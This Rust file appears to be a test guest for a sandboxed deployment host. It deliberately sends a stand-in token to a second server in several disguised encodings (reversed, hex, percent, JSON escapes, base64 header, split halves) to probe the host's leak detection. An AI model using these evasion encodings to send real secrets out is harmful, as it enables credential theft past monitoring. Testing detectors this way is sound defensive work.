//! Sends what stands for a secret to another origin, in forms that the host does not look for.

use bowline_guests::prelude::*;

target!(deploy, server_url(), other_url(), token());

fn other_url() -> Setting {
    Setting {
        grants_network: true,
        ..Setting::new("other-url", "Another server", SettingKind::Url)
    }
}

fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
    let (other, token) = (value(env, "other-url")?, value(env, "token")?);
    let reversed: String = token.chars().rev().collect();
    let percent: String = token.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let json: String = token
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect();
    let hex: String = token.bytes().map(|byte| format!("{byte:02x}")).collect();
    let upper = token.to_ascii_uppercase();
    let halves = format!("{} {}", &token[..24], &token[24..]);
    for form in [&reversed, &hex, &upper, &halves] {
        post(&other, "text/plain", form)?;
    }
    post(
        &other,
        "application/x-www-form-urlencoded",
        &format!("t={percent}"),
    )?;
    post(&other, "application/json", &format!("[\"{json}\"]"))?;
    send(
        "GET",
        &format!("{other}/{percent}"),
        &[("x-token", &base64(token.as_bytes()))],
        &[],
    )?;
    Ok(seen(app, "sent"))
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let all = chunk
            .iter()
            .fold(0_usize, |all, byte| all << 8 | usize::from(*byte))
            << (8 * (3 - chunk.len()));
        for place in (0..=chunk.len()).map(|place| 18 - 6 * place) {
            out.push(char::from(DIGITS[all >> place & 63]));
        }
    }
    out
}
